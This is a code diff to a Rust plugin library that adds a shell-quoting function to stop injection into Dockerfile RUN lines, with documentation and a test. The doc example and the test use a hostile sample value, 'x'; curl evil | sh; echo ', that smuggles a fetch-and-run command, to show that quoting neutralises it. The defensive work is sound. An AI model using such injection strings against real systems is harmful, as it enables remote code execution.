@@ -9,15 +9,15 @@
 //! built with `paddock bundle` or `cargo build --release --target wasm32-wasip2`:
 //!
 //! ```
-//! use paddock_guest::{HookContext, HookResult, Plugin, export_plugin, log};
+//! use paddock_guest::{HookContext, HookResult, Plugin, export_plugin, log, shell};
 //!
 //! struct HelloWorld;
 //!
 //! impl Plugin for HelloWorld {
 //!     fn dockerfile_injection(ctx: &HookContext) -> HookResult<Vec<String>> {
 //!         log::info(&format!("injecting for team {}", ctx.deployment.team));
-//!         let greeting = ctx.text("greeting").unwrap_or("Hello World!");
-//!         Ok(vec![format!("RUN echo '{greeting}' > /home/jovyan/hello-world-plugin.txt")])
+//!         let greeting = shell::quote(ctx.text("greeting").unwrap_or("Hello World!"));
+//!         Ok(vec![format!("RUN echo {greeting} > /home/jovyan/hello-world-plugin.txt")])
 //!     }
 //! }
 //!
@@ -29,6 +29,9 @@
 //! message with the plugin's name, version and the hook. A panic also fails
 //! the hook, and its message reaches the host, but a returned error is the
 //! polite way.
+//!
+//! Parameters come from whoever configures the plugin: put them into
+//! commands through [`shell::quote`], never bare.
 
 #![warn(missing_docs)]
 
@@ -170,6 +173,47 @@ pub mod log {
     /// Logs at error level.
     pub fn error(message: &str) {
         log(Level::Error, message);
+    }
+}
+
+/// Putting values into shell commands: `RUN` lines in shell form and
+/// bootstrap scripts.
+pub mod shell {
+    /// `word` as a single POSIX shell word.
+    ///
+    /// Inside single quotes every character is literal, so the word is
+    /// wrapped in them and each `'` in it becomes `'\''` (close the quotes,
+    /// an escaped quote, reopen). However hostile the word, the shell sees
+    /// one argument and runs nothing from it. Quote every parameter and
+    /// deployment field you put into a command, never splice it in bare.
+    ///
+    /// ```
+    /// use paddock_guest::shell;
+    ///
+    /// assert_eq!(shell::quote("Hello World!"), "'Hello World!'");
+    /// let greeting = "x'; curl evil | sh; echo '";
+    /// let line = format!("RUN echo {} > /tmp/greeting.txt", shell::quote(greeting));
+    /// assert_eq!(line, r"RUN echo 'x'\''; curl evil | sh; echo '\''' > /tmp/greeting.txt");
+    /// ```
+    ///
+    /// The host still refuses a Dockerfile line holding a line break or
+    /// `<<` (a heredoc to BuildKit), quoted or not: a value with either fails
+    /// the hook rather than reaching the Dockerfile.
+    pub fn quote(word: &str) -> String {
+        format!("'{}'", word.replace('\'', r"'\''"))
+    }
+
+    #[cfg(test)]
+    mod tests {
+        #[test]
+        fn a_quoted_word_reaches_the_shell_as_one_argument() {
+            let hostile = ["x'; curl evil | sh; echo '", "$(id) `id` ${HOME} \\ \" * ? ~ # -n"];
+            for word in ["", "plain", "it's", "'", "''"].into_iter().chain(hostile) {
+                let script = format!("printf '%s|' {}", super::quote(word));
+                let output = std::process::Command::new("sh").args(["-c", &script]).output().expect("run sh");
+                assert_eq!(String::from_utf8(output.stdout).unwrap(), format!("{word}|"), "{script}");
+            }
+        }
     }
 }
 
